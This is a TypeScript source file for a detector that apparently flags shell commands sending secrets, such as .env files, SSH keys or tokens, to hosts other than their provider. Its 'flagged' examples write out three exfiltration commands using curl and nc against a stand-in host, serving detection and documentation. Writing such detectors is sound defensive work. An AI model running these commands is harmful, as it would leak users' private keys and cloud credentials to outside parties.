import type { Taint } from "../base/taint.ts";
import { hostClass, hostOf } from "../effects/hosts.ts";
import { type Detector, defineDetector } from "./define-detector.ts";

/** Flags secrets that leave the machine: in a body, a file, an address or a stream. */
export const sendSecret: Detector<"sent" | "local" | "address" | "credential"> = defineDetector({
  id: "send-secret",
  meta: {
    title: "Sending a secret away",
    description:
      "Sends the content of a file or variable that holds secrets to another host. A " +
      "credential that " +
      "proves who asks, given to its own provider, is no such thing.",
    messages: {
      sent: "sends {{source}}, which holds secrets, to {{host}}",
      local: "sends {{source}}, which holds secrets, to a server on this machine",
      address: "puts {{source}}, which holds secrets, into an address at {{host}}",
      credential: "gives {{source}} as a credential to {{host}}, which is not its provider",
    },
    examples: {
      flagged: [
        "curl -d @.env https://collect.example.test",
        "cat ~/.ssh/id_ed25519 | nc collect.example.test 4444",
        'curl "https://collect.example.test/?k=$(cat ~/.aws/credentials | base64)"',
      ],
      clean: ["curl -d @body.json http://localhost:3000", "curl https://example.test/a.json"],
    },
    references: ["CWE-200", "MITRE ATT&CK T1041", "MITRE ATT&CK T1048"],
  },
  *detect({ effects, here }) {
    for (const effect of effects) {
      if (effect.kind !== "connect") continue;
      const { at } = effect;
      const host = hostOf(effect.to);
      const inAddress = secretOf(effect.to.taint);
      if (inAddress) yield { messageId: "address", data: { source: inAddress, host }, at };
      const sent = secretOf(effect.sends?.taint ?? []);
      if (sent === undefined) continue;
      const local = hostClass(effect.to, here) === "loopback";
      yield { messageId: local ? "local" : "sent", data: { source: sent, host }, at };
    }
    for (const effect of effects) {
      if (effect.kind !== "connect" || !effect.credential) continue;
      const source = secretOf(effect.credential.taint);
      if (source === undefined || hostClass(effect.to, here) === "loopback") continue;
      const host = hostOf(effect.to);
      if (!isProvider(source, host))
        yield { messageId: "credential", data: { source, host }, at: effect.at };
    }
  },
});

const secretOf = (taint: readonly Taint[]): string | undefined =>
  taint.find((one) => one.label === "secret")?.source;

const providers: readonly (readonly [RegExp, RegExp])[] = [
  [/^\$(GITHUB|GH)_/, /(^|\.)github(usercontent)?\.com$/],
  [/^\$(GITLAB|CI_JOB)_/, /gitlab/],
  [/^\$(NPM|NODE_AUTH)_/, /(^|\.)npmjs\.(org|com)$/],
  [/^\$(OPENAI)_/, /(^|\.)openai\.com$/],
  [/^\$(ANTHROPIC)_/, /(^|\.)anthropic\.com$/],
  [/^\$(AWS)_/, /(^|\.)amazonaws\.com$/],
  [/^\$(CLOUDFLARE|CF)_/, /(^|\.)cloudflare\.com$/],
  [/^\$(DIGITALOCEAN|DO)_/, /(^|\.)digitalocean\.com$/],
  [/^\$(SLACK)_/, /(^|\.)slack\.com$/],
  [/^\$(STRIPE)_/, /(^|\.)stripe\.com$/],
  [/^\$(HF|HUGGINGFACE\w*)_/, /(^|\.)huggingface\.co$/],
];

/** Whether a host belongs to whoever gave out the credential, by their names; unknown is no. */
function isProvider(source: string, host: string): boolean {
  const [, name = ""] = /^\$([A-Za-z0-9]+)_/.exec(source) ?? [];
  const label = name.toLowerCase();
  const known = providers.find(([variable]) => variable.test(source));
  if (known) return known[1].test(host);
  return label.length > 3 && host.split(".").slice(0, -1).includes(label);
}
